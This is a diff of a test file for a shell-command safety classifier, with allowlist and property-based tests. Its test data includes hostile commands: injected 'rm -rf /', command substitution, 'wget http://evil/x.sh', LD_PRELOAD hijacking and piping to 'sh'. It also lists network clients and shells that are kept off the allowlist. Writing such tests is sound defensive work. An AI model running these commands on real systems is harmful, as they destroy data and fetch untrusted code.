@@ -1,192 +1,165 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { capOutput, classifyCommand, isReadOnlyCommand, redact } from "./safety.ts";
+import { DANGEROUS, SAFE } from "./safety-corpus.ts";
+import { capOutput, classifyCommand, isReadOnlyCommand, READ_ONLY_PROGRAMS, redact } from "./safety.ts";
 
-const readOnly: string[] = [
-  "ls",
-  "ls -la /var/log",
-  "cat /etc/nginx/nginx.conf",
-  "head -n 50 /var/log/syslog",
-  "tail -f /var/log/nginx/error.log",
-  "grep -rn 'upstream' /etc/nginx 2>/dev/null",
-  "df -h; free -m; uptime",
-  "du -sh /var/*",
-  "ps aux | grep nginx | grep -v grep",
-  "ps aux |& grep nginx",
-  "top -bn1",
-  "top -b -n 1 | head -20",
-  "ss -tlnp",
-  "netstat -tulpn",
-  "ip addr",
-  "ip -br a",
-  "ip -4 addr show dev eth0",
-  "ip route",
-  "systemctl status nginx",
-  "systemctl --no-pager status nginx.service",
-  "systemctl is-active nginx && systemctl is-enabled nginx",
-  "systemctl list-units --failed",
-  "systemctl",
-  "journalctl -u nginx -n 100 --no-pager",
-  "journalctl --since '1 hour ago' -p err",
-  "nginx -t",
-  "nginx -T 2>&1 | head",
-  "sudo nginx -t",
-  "sudo -n systemctl status nginx",
-  "sudo -u www-data cat /srv/app/.env.example",
-  "uname -a",
-  "whoami; id; hostname",
-  "hostname -I",
-  "date",
-  "date +%Y-%m-%d",
-  "date -d yesterday +%s",
-  "date -Iseconds",
-  "stat /etc/passwd",
-  "file /usr/bin/node",
-  "wc -l /var/log/syslog",
-  "which nginx",
-  "echo hello",
-  'echo "$HOME"',
-  "echo done > /dev/null",
-  "ls >/dev/null 2>&1",
-  "ls &>/dev/null",
-  "ls 2>&1 >&2",
-  "cat < /etc/hostname",
-  "LANG=C ls -la",
-  "TZ=UTC date",
-  "/usr/bin/ls /",
-  "/bin/cat /etc/os-release",
-  "sed -n '1,20p' /etc/nginx/nginx.conf",
-  "sed -n -e '$p' file",
-  "find /var/log -name '*.log' -mtime -1",
-  "find / -type f -size +100M 2>/dev/null",
-  "sort -u names.txt | uniq -c",
-  "cd /etc/nginx && ls sites-enabled",
-  "(ls; cat x)",
-  "ls # ; rm -rf /",
-  "docker ps -a",
-  "docker logs --tail 50 web",
-  "crontab -l",
-  "l\\s -la",
-  "dmesg -T | tail",
-  "cat /proc/meminfo | head -5",
-  "true",
-];
-
-const notReadOnly: Array<[line: string, why: RegExp]> = [
-  ["find / -delete", /-delete/],
-  ["find . -name '*.tmp' -exec rm {} \\;", /-exec/],
-  ["find . -execdir sh -c 'x' \\;", /-execdir/],
-  ["find . -fprint /etc/cron.d/x", /-fprint/],
-  ["find / -{delete,print}", /expansion/],
-  ["find . $OPTS", /expansion/],
-  ["find / ${X:--delete}", /plain \$\{NAME\}/],
-  ["cat x > /etc/passwd", /redirection to \/etc\/passwd/],
-  ["echo hi >> ~/.bashrc", /redirection/],
-  ["ls >| out.txt", /redirection/],
-  ["ls &> /tmp/out", /redirection/],
-  ["ls >& /tmp/out", /redirection/],
-  ["ls 1>/tmp/x", /redirection/],
-  ["ls 2>&1>/tmp/x", /redirection/],
-  ["cat x > /dev/null/../../etc/passwd", /redirection/],
-  ["echo x > $FILE", /redirection to a file/],
-  ["cat <> /etc/passwd", /redirection/],
-  ["ls; rm -rf /", /rm is not on the read-only allowlist/],
-  ["ls && rm -rf /", /rm/],
-  ["ls || rm -rf /", /rm/],
-  ["ls & rm -rf /", /rm/],
-  ["ls\nrm -rf /", /rm/],
-  ["ls #\nrm -rf /", /rm/],
-  ["echo $(rm -rf /)", /substitution/],
-  ['echo "$(rm -rf /)"', /substitution/],
-  ["echo `rm -rf /`", /backtick/],
-  ['echo "`id`"', /backtick/],
-  ["echo $((1+1))", /substitution/],
-  ["cat <(rm -rf /)", /process substitution/],
-  ["diff >(rm x) y", /process substitution/],
-  ["ls | sh", /sh is not on the read-only allowlist/],
-  ["cat script | bash", /bash/],
-  ["ls | xargs rm", /xargs/],
-  ["systemctl restart nginx", /systemctl restart/],
-  ["systemctl stop nginx", /systemctl stop/],
-  ["sudo systemctl reload nginx", /systemctl reload/],
-  ["sudo rm -rf /var/www", /rm/],
-  ["sudo -s", /sudo -s/],
-  ["sudo -E ls", /sudo -E/],
-  ["sudo", /no command/],
-  ["sed -i 's/a/b/' /etc/nginx/nginx.conf", /sed -i/],
-  ["sed -ni '1p' f", /sed -i/],
-  ["sed --in-place 's/a/b/' f", /sed -i/],
-  ["sed 's/a/b/w /tmp/out' f", /sed -n/],
-  ["sed -n 's/a/b/w /tmp/out' f", /sed -n/],
-  ["sed -n '1e rm -rf /' f", /sed -n/],
-  ["cat /etc/passwd | tee /tmp/x", /tee/],
-  ["FOO=bar ls", /FOO=/],
-  ["LD_PRELOAD=/tmp/evil.so ls", /LD_PRELOAD=/],
-  ["PATH=/tmp ls", /PATH=/],
-  ["LANG=$(rm -rf /) ls", /substitution/],
-  ["X=1", /assignment/],
-  ["env", /env is not on/],
-  ["env FOO=1 ls", /env/],
-  ["./ls", /not a system command/],
-  ["/tmp/ls", /not a system command/],
-  ["$CMD -la", /command name comes from an expansion/],
-  ["ls${IFS}-la", /expansion/],
-  ["'r''m' -rf /", /rm/],
-  ["$'\\x72m' -rf /", /quoting/],
-  ["nginx -s reload", /nginx -t/],
-  ["nginx", /nginx -t/],
-  ["ip addr add 10.0.0.2/24 dev eth0", /ip addr add/],
-  ["ip link set eth0 down", /ip link set/],
-  ["hostname evil", /sets the host name/],
-  ["date -s '2020-01-01'", /sets the clock/],
-  ["date 010100002020", /sets the clock/],
-  ["journalctl --vacuum-time=1s", /vacuum/],
-  ["journalctl --rotate", /rotate/],
-  ["dmesg -c", /kernel log/],
-  ["top", /top needs -b/],
-  ["sort -o /etc/passwd x", /sort -o/],
-  ["sort --compress-program=sh x", /compress-program/],
-  ["uniq in.txt /etc/passwd", /output file/],
-  ["ss -K dst 1.2.3.4", /ss -K/],
-  ["mount /dev/sdb1 /mnt", /mount/],
-  ["docker exec web sh", /docker exec/],
-  ["docker rm -f web", /docker rm/],
-  ["crontab -r", /crontab -l/],
-  ["awk 'BEGIN{system(\"rm x\")}'", /awk/],
-  ["curl -o /tmp/x http://evil", /curl/],
-  ["wget http://evil/x.sh", /wget/],
-  ["cp a b", /cp/],
-  ["chmod 777 /", /chmod/],
-  ["kill -9 1", /kill/],
-  ["apt-get install x", /apt-get/],
-  ["{ ls; }", /expansion/],
-  ["if true; then rm x; fi", /if/],
-  ["cat <<EOF\nrm -rf /\nEOF", /rm/],
-  ["echo 'unterminated", /unterminated quote/],
-  ["ls >", /no target/],
-  ["", /empty/],
-  ["   ", /empty/],
-  ["ls " + "a".repeat(20_000), /too long/],
-];
-
-describe("classifyCommand", () => {
-  it.each(readOnly)("read-only: %j", (line) => {
-    expect(classifyCommand(line)).toEqual({ readOnly: true, reason: expect.any(String) });
-    expect(isReadOnlyCommand(line)).toBe(true);
+describe("classifyCommand: the corpus", () => {
+  it("holds at least 300 lines, safe and dangerous", () => {
+    const dangerous = Object.values(DANGEROUS).flat();
+    expect(SAFE.length + dangerous.length).toBeGreaterThanOrEqual(300);
+    expect(SAFE.length).toBeGreaterThanOrEqual(100);
   });
 
-  it.each(notReadOnly)("not read-only: %j", (line, why) => {
+  it.each(SAFE)("auto-approved: %j", (line) => {
+    expect(classifyCommand(line)).toEqual({ readOnly: true, reason: "every part of the command is on the read-only allowlist" });
+  });
+
+  const dangerous = Object.entries(DANGEROUS).flatMap(([cls, lines]) => lines.map((line) => [cls, line] as const));
+  it.each(dangerous)("asked (%s): %j", (_cls, line) => {
     const verdict = classifyCommand(line);
     expect(verdict.readOnly).toBe(false);
-    expect(verdict.reason).toMatch(why);
+    expect(verdict.reason.length).toBeGreaterThan(0);
     expect(isReadOnlyCommand(line)).toBe(false);
+  });
+});
+
+describe("classifyCommand: reasons a person can act on", () => {
+  it.each([
+    ["sort --out=x", /sort is not on the read-only allowlist/],
+    ["ls --colo=always", /--colo is not an allowed option.*abbreviations/],
+    ["journalctl --vacuum-time=1s", /--vacuum-time is not an allowed option/],
+    ["ss -K dst 1.2.3.4", /ss -K is not an allowed option/],
+    ["systemctl --now restart nginx", /options before the subcommand/],
+    ["systemctl restart nginx", /systemctl restart is not a read-only subcommand/],
+    ["docker -H x run y", /options before the subcommand/],
+    ["uniq a b", /more than 1 operand/],
+    ["hostname evil", /takes no operands/],
+    ["date 010100002020", /not a \+FORMAT/],
+    ["find / -delete", /-delete is not an allowed expression/],
+    ["cat <<EOF\nrm -rf /\nEOF", /control character/],
+    ["cat <<EOF", /heredoc|parse/],
+    ["cat <<< x", /herestring|redirect|parse/],
+    ["FOO=bar ls", /variable assignment/],
+    ["ls > x", /redirection > x may write a file/],
+    ["ls *.log", /shell meaning/],
+    ["echo $(id)", /command substitution/],
+    ["cat <(id)", /process substitution/],
+    ["ls # x", /comment/],
+    ["cat /dev/watchdog", /device/],
+    ["/tmp/ls", /not a plain name/],
+  ])("%j", (line, why) => {
+    expect(classifyCommand(line).reason).toMatch(why);
+  });
+
+  it("lists a short allowlist without wrappers, interpreters, writers or network clients", () => {
+    for (const never of ["sudo", "env", "xargs", "nice", "timeout", "awk", "sed", "tee", "sort", "curl", "wget", "dig", "host", "nslookup", "nc", "sh", "bash", "nginx"]) {
+      expect(READ_ONLY_PROGRAMS).not.toContain(never);
+    }
+    expect(READ_ONLY_PROGRAMS.length).toBeLessThan(50);
   });
 
   it("finishes quickly on hostile input", () => {
     const started = Date.now();
-    for (const line of ["$".repeat(9_000), "'".repeat(9_999), "${".repeat(4_000), "<".repeat(9_000), "a|".repeat(4_000)]) {
+    expect(classifyCommand("ls " + "a".repeat(5_000)).reason).toMatch(/too long/);
+    for (const line of ["$".repeat(4_000), "'".repeat(4_001), "${".repeat(2_000), "<".repeat(4_000), "a|".repeat(2_000), "(".repeat(4_000), "ls " + "x| ".repeat(1_300)]) {
       expect(isReadOnlyCommand(line)).toBe(false);
     }
-    expect(Date.now() - started).toBeLessThan(1_000);
+    // Lines are short and parsing has a time budget: pathological input is refused, not waited for.
+    expect(Date.now() - started).toBeLessThan(7_000);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------------------
+// Property: safe commands are built by construction from templates (a program, a subset of its allowed option
+// units, its fixed operands), joined by safe operators. Then options and operands that program must not take,
+// and shell syntax, are inserted at word boundaries. The oracle is the construction itself: a line is in the
+// safe grammar exactly when nothing was inserted, and the verdict must say read-only exactly then.
+
+interface Template {
+  head: string[];
+  options: string[][];
+  /** Fixed units at the end (an option with its value is one unit). */
+  tail?: string[][];
+  /** Options/operands that take this program out of its read-only forms, wherever they go after the program. */
+  bad: string[][];
+}
+
+const TEMPLATES: Template[] = [
+  { head: ["ls"], options: [["-l"], ["-a"], ["-h"], ["--all"], ["-t"]], tail: [["/var/log"]], bad: [["--colo=always"], ["-Z"], ["--hyperlink"], ["--al"]] },
+  { head: ["cat"], options: [["-n"], ["-A"]], tail: [["/etc/hosts"]], bad: [["/dev/watchdog"], ["/proc/1/fd/3"], ["--number-non"], ["-z"]] },
+  { head: ["head"], options: [["-n", "5"], ["-q"]], tail: [["/var/log/syslog"]], bad: [["--line=5"], ["/dev/sda"], ["-f"]] },
+  { head: ["tail"], options: [["-n", "20"], ["-q"]], tail: [["/var/log/syslog"]], bad: [["-f"], ["-F"], ["--follow"], ["--pid=1"], ["/dev/ttyS0"]] },
+  { head: ["grep"], options: [["-i"], ["-n"], ["-v"], ["-e", "error"]], tail: [["-e", "x"], ["/var/log/syslog"]], bad: [["--devices=read"], ["-D", "read"], ["-f", "/tmp/p"], ["--reg=x"]] },
+  { head: ["uniq"], options: [["-c"], ["-d"]], tail: [["/var/log/x"]], bad: [["/tmp/out"], ["--coun"], ["-o"]] },
+  { head: ["systemctl", "status"], options: [["--no-pager"], ["-l"], ["-n", "20"]], tail: [["nginx"]], bad: [["--now"], ["-H", "evil"], ["--host=x"], ["--user"], ["-M", "c"], ["--force"]] },
+  { head: ["systemctl", "is-active"], options: [["--quiet"]], tail: [["nginx"]], bad: [["--now"], ["-H", "evil"], ["--runtime"]] },
+  { head: ["journalctl"], options: [["-u", "nginx"], ["-n", "100"], ["--no-pager"], ["-p", "err"]], bad: [["--vacuum-time=1s"], ["--rotate"], ["--flush"], ["--vac=1s"], ["-f"], ["--cursor-file=/tmp/x"], ["-D", "/tmp"], ["_PID=1"], ["--sync"]] },
+  { head: ["docker", "ps"], options: [["-a"], ["-q"], ["--no-trunc"]], bad: [["-H", "x"], ["--context", "c"], ["--output=x"], ["run"], ["--follow"]] },
+  { head: ["docker", "logs"], options: [["--tail", "50"], ["-t"]], tail: [["web"]], bad: [["-f"], ["--follow"], ["db"], ["-H", "x"]] },
+  { head: ["ss"], options: [["-t"], ["-l"], ["-n"], ["-p"], ["-tlnp"]], bad: [["-K"], ["--kill"], ["-D", "/tmp/x"], ["--diag=/tmp/x"], ["-E"], ["dst", "1.2.3.4"]] },
+  { head: ["hostname"], options: [["-f"], ["-I"]], bad: [["newname"], ["-F", "/tmp/x"], ["-b"], ["--file=x"]] },
+  { head: ["dmesg"], options: [["-T"], ["--level=err"]], bad: [["-C"], ["-c"], ["--clear"], ["-D"], ["-n", "1"], ["-w"]] },
+  { head: ["date"], options: [["-u"]], tail: [["+%s"]], bad: [["-s", "2020-01-01"], ["010100002020"], ["--set=x"]] },
+  { head: ["find", "/var/log"], options: [["-type", "f"], ["-mtime", "-1"], ["-name", "x.log"]], bad: [["-delete"], ["-exec", "rm", "{}", "+"], ["-fprint", "/tmp/x"], ["-ok", "rm", ";"], ["-execdir", "id", ";"]] },
+  { head: ["top"], options: [["-c"]], tail: [["-b"], ["-n", "1"]], bad: [["-E"], ["-O"]] },
+  { head: ["ip"], options: [["-br"], ["-4"], ["-s"]], tail: [["addr"], ["show"]], bad: [["-b", "/tmp/x"], ["-batch", "x"], ["-n", "ns"], ["-force"], ["add", "1.2.3.4/24"]] },
+  { head: ["df"], options: [["-h"], ["-T"], ["-i"]], bad: [["--outp=x"], ["--output=x"]] },
+  { head: ["ps"], options: [["aux"], ["-ef"]], bad: [["e"], ["auxe"], ["--format=x", "-K"]] },
+];
+
+interface Syntax {
+  text: string;
+  /** Only before the program (elsewhere it would be a plain operand word). */
+  prefixOnly?: boolean;
+}
+const SYNTAX: Syntax[] = [
+  { text: "$(id)" }, { text: "`id`" }, { text: '"$HOME"' }, { text: "$HOME" }, { text: "${X:--delete}" }, { text: "*" }, { text: "x*" }, { text: "{a,b}" },
+  { text: "~root" }, { text: "$'x'" }, { text: "\\-la" }, { text: "<(id)" }, { text: ">(id)" }, { text: "> /tmp/x" }, { text: ">> /dev/null" },
+  { text: "&> /dev/null" }, { text: "< /etc/passwd" }, { text: "<<EOF" }, { text: "<<< x" }, { text: "; rm -rf ~" }, { text: "&& sh" }, { text: "| sh" },
+  { text: "&" }, { text: "|&" }, { text: "#c" }, { text: "\n" }, { text: "\t" }, { text: "\r" }, { text: "!" }, { text: "(" }, { text: ")" }, { text: "2>&3" },
+  { text: "FOO=1", prefixOnly: true }, { text: "LD_PRELOAD=/tmp/x.so", prefixOnly: true }, { text: "sudo", prefixOnly: true }, { text: "env", prefixOnly: true },
+  { text: "xargs", prefixOnly: true }, { text: "timeout 5", prefixOnly: true },
+];
+const unescape = (s: string) => s.replace(/^\\([ntr])$/, (_m, c: string) => ({ n: "\n", t: "\t", r: "\r" })[c]!);
+
+type Insert = { at: number; words: string[]; prefixOnly?: boolean };
+const commandArb = fc.constantFrom(...TEMPLATES).chain((t) =>
+  fc.record({
+    template: fc.constant(t),
+    options: fc.shuffledSubarray(t.options),
+    inserts: fc.array(
+      fc.record({
+        at: fc.nat(),
+        item: fc.oneof(
+          fc.constantFrom(...t.bad).map((words): Omit<Insert, "at"> => ({ words })),
+          fc.constantFrom(...SYNTAX).map((s): Omit<Insert, "at"> => ({ words: [unescape(s.text)], prefixOnly: s.prefixOnly })),
+        ),
+      }),
+      { maxLength: 2 },
+    ),
+  }),
+);
+
+function build(c: { template: Template; options: string[][]; inserts: { at: number; item: Omit<Insert, "at"> }[] }): { line: string; inserted: number } {
+  const units: string[][] = [...c.template.head.map((w) => [w]), ...c.options, ...(c.template.tail ?? [])];
+  for (const { at, item } of c.inserts) {
+    const where = item.prefixOnly ? 0 : 1 + (at % units.length); // bad options go after the program; syntax anywhere after it
+    units.splice(where, 0, item.words);
+  }
+  return { line: units.flat().join(" "), inserted: c.inserts.length };
+}
+
+describe("classifyCommand: property", () => {
+  it("safe-by-construction lines are read-only; any inserted option, operand or syntax makes them asked", () => {
+    fc.assert(
+      fc.property(fc.array(commandArb, { minLength: 1, maxLength: 3 }), fc.array(fc.constantFrom("&&", "||", ";", "|"), { minLength: 2, maxLength: 2 }), (commands, ops) => {
+        const parts = commands.map(build);
+        const line = parts.map((p, i) => (i ? `${ops[i - 1]} ${p.line}` : p.line)).join(" ");
+        const inSafeGrammar = parts.every((p) => p.inserted === 0);
+        expect(isReadOnlyCommand(line), line).toBe(inSafeGrammar);
+      }),
+      { numRuns: 1500 },
+    );
   });
 });
 
